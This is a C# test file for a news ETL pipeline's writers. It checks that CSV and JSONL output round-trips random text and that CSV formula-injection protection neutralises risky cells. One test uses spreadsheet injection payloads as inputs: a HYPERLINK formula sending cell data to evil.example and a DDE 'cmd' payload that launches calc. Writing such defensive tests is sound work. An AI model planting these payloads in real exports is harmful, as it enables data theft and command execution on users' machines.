using System.Text.Json;
using CsvHelper;
using FsCheck;
using FsCheck.Fluent;
using FsCheck.Xunit;
using NewsEtl.Model;
using NewsEtl.Output;

namespace NewsEtl.Core.Tests.Reliability;

/// <summary>
/// Random records written by the real writers and read back with CsvHelper's reader and System.Text.Json: equal values,
/// except that with injection protection on a cell a spreadsheet would run as a formula comes back behind a quote.
/// </summary>
public sealed class CsvJsonRoundTripProperties
{
    private const string FormulaStarts = "=+-@\t\r";

    // Quotes, separators, line ends, tabs, formula starts, Chinese, emoji (surrogate pairs), right-to-left and
    // zero-width marks, NUL. Lone surrogates are left out: no stage produces them (decoders and AngleSharp turn
    // them into U+FFFD) and UTF-8 cannot hold them.
    private static readonly string[] Pieces =
    [
        "\"", ",", "\n", "\r", "\r\n", "\t", "=", "+", "-", "@", " ", "'", ";", "a", "Z", "9", "界面", "新闻", "，", "。", "😀",
        "👩‍👩‍👧", "\U0001F9E7", "\u200F", "\u202E", "\u200B", "\uFEFF", "\0", "=HYPERLINK(\"http://x\",\"y\")", "\\", "}", "{",
    ];

    // Now and then a very long field (100,000+ characters of one piece).
    private static readonly Gen<string> Text =
        Gen.Frequency(
            (60, Gen.Elements(Pieces).ListOf().Select(p => string.Concat(p))),
            (1, Gen.Elements(Pieces).Select(p => string.Concat(Enumerable.Repeat(p, 100_000)))));

    private static readonly Gen<ArticleRecord> Records =
        from strings in Text.ArrayOf(20)
        from paragraphs in Text.ListOf()
        from numbers in Gen.Choose(0, int.MaxValue).ArrayOf(3)
        from reprint in ArbMap.Default.GeneratorFor<bool>()
        select new ArticleRecord
        {
            Id = strings[0], Source = strings[1], Url = strings[2], Site = strings[3], Title = strings[4], Subtitle = strings[5],
            Author = strings[6], Outlet = strings[7], Editor = strings[8], PublishedAt = strings[9], Column = strings[10],
            Tags = strings[11], Body = strings[12], Paragraphs = [.. paragraphs], ParagraphCount = numbers[0], CharCount = numbers[1],
            IsReprint = reprint, Script = strings[13], ContentHash = strings[14], RawSha256 = strings[15], DuplicateOf = strings[16],
            RepairCount = numbers[2], Flags = strings[17], Extractor = strings[18], Charset = strings[19], LeadImage = strings[0] + strings[4],
        };

    [Property(MaxTest = 50)]
    public Property Write_RandomRecords_ReadBackEqualWithCsvHelperAndSystemTextJson() =>
        Prop.ForAll(Records.ListOf().Where(l => l.Count <= 5).ToArbitrary(), ArbMap.Default.ArbFor<bool>(), (records, protection) =>
        {
            using var tree = new TempTree();
            WriteAll(tree.Output, records, protection);

            var csv = ReadCsv(Path.Combine(tree.Output, OutputSet.ArticlesCsv));
            var json = File.ReadAllText(Path.Combine(tree.Output, OutputSet.ArticlesJsonl)).Split('\n', StringSplitOptions.RemoveEmptyEntries)
                .Select(l => JsonSerializer.Deserialize<ArticleRecord>(l, Json.Lines)!).ToList();

            var csvEqual = csv.Count == records.Count + 1
                && csv[0].SequenceEqual(ArticleColumns.Header)
                && records.Select((r, i) => ArticleColumns.Fields(r).Select(f => Expected(f, protection)).SequenceEqual(csv[i + 1])).All(x => x);
            var jsonEqual = json.Count == records.Count
                && records.Zip(json).All(p => p.First with { Paragraphs = [], Images = [] } == p.Second with { Paragraphs = [], Images = [] }
                    && p.First.Paragraphs.SequenceEqual(p.Second.Paragraphs)
                    && p.First.Images.SequenceEqual(p.Second.Images));
            return csvEqual.Label("CSV values differ").And(jsonEqual.Label("JSON values differ"));
        });

    [Theory]
    [InlineData(true)]
    [InlineData(false)]
    public void Write_FormulaTitles_AreNeutralizedUnlessProtectionIsOff(bool protection)
    {
        string[] titles = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "plain 标题"];
        using var tree = new TempTree();
        WriteAll(tree.Output, [.. titles.Select((t, i) => Record(i) with { Title = t })], protection);

        var rows = ReadCsv(Path.Combine(tree.Output, OutputSet.ArticlesCsv));
        var title = Array.IndexOf(ArticleColumns.Header, "title");
        for (var i = 0; i < titles.Length; i++)
        {
            var expected = protection && i < titles.Length - 1 ? "'" + titles[i] : titles[i];
            Assert.Equal(expected, rows[i + 1][title]);
        }

        // JSON is for programs: never altered.
        var json = File.ReadAllLines(Path.Combine(tree.Output, OutputSet.ArticlesJsonl)).Select(l => JsonSerializer.Deserialize<ArticleRecord>(l, Json.Lines)!.Title);
        Assert.Equal(titles, json);
    }

    private static string Expected(string field, bool protection) =>
        protection && field.Length > 0 && FormulaStarts.Contains(field[0], StringComparison.Ordinal) ? "'" + field : field;

    private static ArticleRecord Record(int i) => new()
    {
        Id = $"id{i}", Source = $"s{i}.html", Title = "t", Body = "b", Paragraphs = ["b"], ContentHash = "h", RawSha256 = "r",
    };

    private static void WriteAll(string folder, IReadOnlyList<ArticleRecord> records, bool protection)
    {
        var output = new OutputSet(folder, new OutputOptions { CsvInjectionProtection = protection });
        try
        {
            foreach (var record in records)
            {
                output.WriteArticle(record);
            }

            output.CommitAsync(new { }, CancellationToken.None).GetAwaiter().GetResult();
        }
        finally
        {
            output.DisposeAsync().AsTask().GetAwaiter().GetResult();
        }
    }

    private static List<string[]> ReadCsv(string path)
    {
        var rows = new List<string[]>();
        using var csv = CsvReader.FromText(File.ReadAllText(path), CsvReaderOptions.Default with { HasHeader = false, SkipEmptyLines = false });
        while (csv.Read())
        {
            rows.Add([.. Enumerable.Range(0, csv.FieldCount).Select(csv.GetString)]);
        }

        return rows;
    }
}
